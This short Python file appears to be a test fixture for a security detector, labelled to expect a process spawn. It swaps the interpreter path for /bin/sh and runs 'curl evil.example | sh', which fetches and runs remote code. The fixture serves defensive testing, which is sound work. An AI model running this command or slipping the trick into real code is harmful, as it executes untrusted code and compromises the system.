# The path of the interpreter is set to a program of another kind, which is then started as if it were Python.
# expect: process_spawn
import subprocess
import sys

sys.executable = "/bin/sh"
subprocess.run([sys.executable, "-c", "curl evil.example | sh"])
